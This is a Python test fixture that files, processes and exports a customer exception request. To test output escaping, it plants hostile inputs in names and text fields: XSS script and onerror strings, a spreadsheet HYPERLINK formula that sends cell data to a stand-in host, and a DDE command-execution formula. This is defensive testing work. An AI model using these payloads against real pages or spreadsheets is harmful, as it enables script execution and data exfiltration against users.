"""A request with a long story, typed by people who type anything; and what is taken out of it."""

from __future__ import annotations

from dataclasses import replace

from sqlalchemy import Connection

from bot.exports.packet import Json
from bot.exports.packet_check import read_packet
from bot.exports.taking import Packet, Taking, take_packet
from models.acts import Amend, AskToExpedite, Complain, MarkExecuted, ReturnForCompletion
from models.holds import MissingItem
from models.oversight.exporting import Format, Wanted
from models.request import Customer, Evidence, ExceptionRequest, Result, Stage
from tests.bot.office import TEAM, Office

#: What a page must show letter by letter, and a spreadsheet must not run.
SCRIPT = "<script>alert('x')</script><img src=x onerror=alert(1)>"
FORMULA = '=HYPERLINK("http://sample.invalid/?"&A1,"Click")'
CUSTOMER = f"Zoë & Łukasz 株式会社 {SCRIPT}"
RATIONALE = f"{FORMULA}\n@SUM(A1:A9) – they ask twice.\n{'W' * 200}"
PEOPLE = {"UREQ": "Åsa Ümit 王", "UVAL1": "=cmd|' /C calc'!A0", "UMAN1": SCRIPT}


async def story_of(office: Office) -> ExceptionRequest:
    """The request, once it is closed."""
    file = Evidence(file_id="F1", name="Offer <b>.pdf", permalink="https://sample.invalid/F1", size=1200)
    filed = await office.file(
        customer=Customer(id="C-1", name=CUSTOMER), rationale=RATIONALE, evidence=(file,)
    )
    number = filed.number
    for act, by in (
        (ReturnForCompletion(number=number, items=(MissingItem(field="impact", words=SCRIPT),)), "UVAL1"),
        (Amend(number=number, filing=replace(filed.filing, impact="-1 day of cash."), why=FORMULA), "UREQ"),
        (AskToExpedite(number=number, justification="+49 30 1234 is waiting."), "UREQ"),
        (Complain(number=number, words=SCRIPT), "UVAL1"),
    ):
        office.hands.move(minutes=5)
        performed = await office.perform(act, by)
        assert performed.refusal is None, (act, performed)
    office.hands.move(minutes=5)
    await office.approve(number, "UVAL1", evidence=(replace(file, file_id="F2", name="Check.xlsx"),))
    refused = await office.approve(number, "UVAL1", Stage.AUTHORIZATION)
    assert refused.refusal is not None
    await office.approve(number, "UEXE1", Stage.AUTHORIZATION)
    for result in (Result.PARTIAL, Result.DONE):
        office.hands.move(minutes=5)
        carried_out = MarkExecuted(number=number, done=f"{result}: {SCRIPT}", result=result)
        assert (await office.perform(carried_out, "UOPS1")).refusal is None
    await office.tick()
    return await office.request(number)


async def taken(office: Office, number: int) -> Packet:
    """Its decision packet."""
    at = office.clock.now()

    def take(connection: Connection) -> Packet:
        return take_packet(
            Taking(
                connection=connection,
                workspace=TEAM,
                asked=Wanted(format=Format.PACKET, request=number),
                span=None,
                people=PEOPLE,
                made_at=at,
                made_by="Åsa",
            )
        )

    return await office.reader.run(take)


async def packet_of(office: Office, number: int) -> Json:
    """The JSON of it."""
    return read_packet((await taken(office, number)).proof.decode())
